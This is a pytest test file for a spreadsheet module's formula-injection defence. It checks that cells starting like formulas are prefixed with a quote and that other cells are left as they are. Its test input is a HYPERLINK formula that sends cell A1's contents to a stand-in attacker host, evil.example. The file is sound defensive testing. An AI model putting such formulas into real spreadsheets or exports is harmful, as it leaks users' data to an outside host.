"""Cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import pytest

from apcert.core.spreadsheet import neutralised, reads_as_formula


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_begins_like_a_formula_gets_a_leading_quote(start: str) -> None:
    text = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert reads_as_formula(text)
    assert neutralised(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Acme GmbH", "2026-12-07", "'=quoted", " =1", "a=1", "12"])
def test_any_other_cell_is_as_it_is(text: str) -> None:
    assert not reads_as_formula(text)
    assert neutralised(text) == text
